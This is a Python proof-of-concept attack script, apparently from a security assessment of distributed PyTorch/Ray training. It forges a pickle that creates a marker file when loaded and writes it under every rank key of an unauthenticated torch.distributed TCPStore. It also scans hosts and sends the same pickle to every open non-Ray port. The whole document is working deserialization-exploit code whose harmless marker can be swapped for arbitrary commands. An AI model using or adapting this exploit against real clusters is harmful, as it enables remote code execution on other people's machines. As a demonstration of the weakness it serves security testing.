"""An attacker who reaches the ports of ranks: what is possible there without the ranks' secret.

``python ranks_intruder.py ADDRESS PORT FILE HOST…`` sends pickles that create FILE when they are
loaded: to the store at ADDRESS:PORT, under all keys that ranks use there, and to every port of
HOST… that is not Ray's. Prints as JSON which of the keys existed, and these ports.
"""

from __future__ import annotations

import contextlib
import json
import pickle
import socket
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

import grpc_probe
import torch.distributed as dist

NAMES = [f"{call}/{rank}" for call in range(3) for rank in range(2)]


class Code:
    """Creates ``file`` when its pickle is loaded."""

    def __init__(self, file: Path) -> None:
        self._file = file

    def __reduce__(self) -> tuple[Callable[..., object], tuple[Any, ...]]:
        return Path.touch, (self._file,)


def write_to_store(address: str, port: int, content: bytes) -> list[str]:
    store = dist.TCPStore(address, port, is_master=False, timeout=timedelta(seconds=60))  # type: ignore[attr-defined]
    known = [name for name in NAMES if store.check([name])]
    for name in NAMES:
        store.set(name, content)
    return known


def is_rays(host: str, port: int, method: str) -> bool:
    return (
        grpc_probe.http(host, port, "/") is not None
        or grpc_probe.call(host, port, method) is not None
    )


def write_to_port(host: str, port: int, content: bytes) -> None:
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=5) as stream:
        stream.sendall(content)
        stream.recv(1)


if __name__ == "__main__":
    forged = pickle.dumps(Code(Path(sys.argv[3])))
    known = write_to_store(sys.argv[1], int(sys.argv[2]), forged)
    method = grpc_probe.ray_methods()[0]
    hosts = sys.argv[4:]
    listening = [(host, port) for host in hosts for port in grpc_probe.open_ports(host)]
    with ThreadPoolExecutor(
        64
    ) as pool:  # a port of gloo does not answer: every question takes its whole time limit
        rays = list(pool.map(lambda at: is_rays(*at, method), listening))
        others = [at for at, is_of_ray in zip(listening, rays, strict=True) if not is_of_ray]
        pool.map(lambda at: write_to_port(*at, forged), others)
    print(
        json.dumps(
            {
                "known": known,
                "ports": {host: [port for at, port in others if at == host] for host in hosts},
            }
        )
    )
